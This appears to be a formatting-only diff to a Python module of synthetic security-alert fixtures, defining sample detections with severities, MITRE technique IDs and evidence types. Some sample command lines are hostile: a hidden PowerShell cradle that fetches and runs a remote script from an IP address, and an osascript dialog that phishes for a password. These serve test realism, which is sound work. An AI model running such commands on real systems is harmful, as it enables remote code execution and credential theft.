@@ -46,8 +46,8 @@ ADVICE = (
 )
 
 MALWARE_NOTE = (
-    "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on "
-    "affected machines. Some of these undesirable applications can replicate and spread from one machine to another."
+    "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions "
+    "on affected machines. Some of these undesirable applications can replicate and spread from one machine to another."
 )
 
 STORIES = (
@@ -58,7 +58,7 @@ STORIES = (
         category="Execution",
         severity=("medium", "medium", "high"),
         command=Text(
-            "\"powershell.exe\" -NoP -W Hidden -c \"& {$p='",
+            '"powershell.exe" -NoP -W Hidden -c "& {$p=\'',
             Slot("hex16"),
             "'; IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.7/a.ps1?x=1&y=%20')}\"",
         ),
@@ -134,14 +134,17 @@ STORIES = (
         severity=("low", "medium"),
         system="macos",
         process="osascript",
-        command="osascript -e 'display dialog \"Your password:\" default answer \"\" with hidden answer'",
+        command='osascript -e \'display dialog "Your password:" default answer "" with hidden answer\'',
         techniques=("T1543.001",),
         evidence=("process", "file", "device"),
     ),
     Story(
         title=Text("D", Raw("\\u00e9"), "tection ", Raw("\\/"), " Malware sur le poste ", Raw("\\ud83d\\udc1b")),
         description=Text(
-            "Un fichier suspect a ", Raw("\\u00e9t\\u00e9"), " trouv\u00e9 ", Raw('\\" \\\\ \\/ \\b\\f\\n\\r\\t \\u001f \\u2028')
+            "Un fichier suspect a ",
+            Raw("\\u00e9t\\u00e9"),
+            " trouv\u00e9 ",
+            Raw('\\" \\\\ \\/ \\b\\f\\n\\r\\t \\u001f \\u2028'),
         ),
         category="SuspiciousActivity",
         severity=("low", "informational"),
@@ -174,7 +177,10 @@ STORIES = (
         techniques=("T1566.002",),
         evidence=("mailbox", "message", "url"),
         id_form="fa",
-        additional={"MachineName": None, "Urls": ["https://xn--bcher-kva.example/?a=1&b=%7B2%7D", "hxxps://bad[.]example"]},
+        additional={
+            "MachineName": None,
+            "Urls": ["https://xn--bcher-kva.example/?a=1&b=%7B2%7D", "hxxps://bad[.]example"],
+        },
         extra={"alertPolicyId": Text(Slot("guid"))},
     ),
     Story(
